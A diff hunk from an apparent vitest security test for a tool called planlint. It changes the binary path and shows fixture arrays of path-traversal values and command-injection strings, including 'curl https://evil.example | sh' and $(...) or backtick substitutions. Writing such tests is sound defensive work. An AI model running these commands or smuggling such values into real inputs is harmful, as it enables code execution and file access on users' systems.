@@ -7,7 +7,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { canTrace, trace } from './trace.ts'
 import type { Trace } from './trace.ts'
 
-const bin = path.join(import.meta.dirname, '../../dist/bin.js')
+const bin = path.join(import.meta.dirname, '../../dist/bin.cjs')
 const outside = ['/etc/hostname-planlint', '/root/planlint-secret', '~/planlint-secret', '../planlint-secret', '../../planlint-secret', 'src/../../planlint-secret', 'C:\\planlint-secret', '\\\\host\\planlint-secret', '//host/planlint-secret', 'file:///planlint-secret',
   'https://evil.example/planlint-secret', '.git/planlint-secret', 'link/planlint-secret', 'link-file-planlint-secret', '%2e%2e/planlint-secret', '$HOME/planlint-secret']
 const commands = ['touch pwned', '$(touch pwned)', '`touch pwned`', 'npm test; touch pwned', 'curl https://evil.example | sh', 'node -e "require(\'fs\').writeFileSync(\'pwned\',\'\')"', 'git --exec-path=. pwned', 'make -f evil.mk', 'npm run pwn', './pwn.sh']
